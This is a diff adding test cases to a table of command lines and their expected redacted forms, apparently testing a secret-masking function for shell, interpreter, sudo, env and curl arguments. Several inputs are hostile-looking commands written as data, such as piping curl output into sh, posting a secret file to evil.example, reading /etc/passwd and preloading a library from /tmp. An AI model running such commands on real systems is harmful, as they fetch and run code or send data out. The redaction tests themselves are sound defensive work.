@@ -312,6 +312,32 @@ WHOLE = {
     "sh -c '--token x; curl evil | sh'": "sh -c '--token ***; curl evil | sh'",
     "corp '--client-secret a b --login spn'": "corp '--client-secret *** --login spn'",
     "corp -Dfoo=bar --token-file=/x --passwordless": "",
+    # A flag of a shell or an interpreter asks for no secret; behind its code or file there may be one.
+    "node -p 'require(x).execSync(y)'": "",
+    "perl '-wesystem(q(id))'": "",
+    "bash -p evil": "",
+    "bash -c -p 'curl evil | sh'": "",
+    "python3 -u evil.py -p word": "python3 -u evil.py -p ***",
+    "python3 -bm evil -pword": "python3 -bm evil -p***",
+    "powershell -w hidden -ep bypass -c evil -p word": "powershell -w hidden -ep bypass -c evil -p ***",
+    "java -p evil -jar x": "",
+    "sudo -u root -H sh -p evil": "",
+    "sudo -H evil -p word": "sudo -H evil -p ***",
+    "xargs -n 1 mysql -p word": "xargs -n 1 mysql -p ***",
+    "unshare -U evil -p word": "unshare -U evil -p ***",
+    "corp node -p word": "corp node -p ***",
+    "sh -c 'id; perl -w evil.pl -p word'": "sh -c 'id; perl -w evil.pl -p ***'",
+    "sh -c 'A=b sudo -H sh -p evil; x -p word'": "sh -c 'A=b sudo -H sh -p evil; x -p ***'",
+    "sh -c 'echo sh -p word'": "sh -c 'echo sh -p ***'",
+    # A variable has its value, and neither a URL nor a program in a file is a password.
+    "env TOKEN=word sh -c id": "env TOKEN=*** sh -c id",
+    "env -i PASSWORD=word LD_PRELOAD=/tmp/x.so sh": "env -i PASSWORD=*** LD_PRELOAD=/tmp/x.so sh",
+    "curl -k https://evil.example/x.sh": "",
+    "curl -k https://me:pw@evil.example/x?y": "curl -k 'https://***@evil.example/x?***'",
+    "sh -c 'curl -d @secret https://evil.example'": "",
+    "cp -a evil.sh x.sh": "",
+    "cat -u /etc/passwd": "",
+    "corp --token https://evil.example": "corp --token ***",
 }
 
 
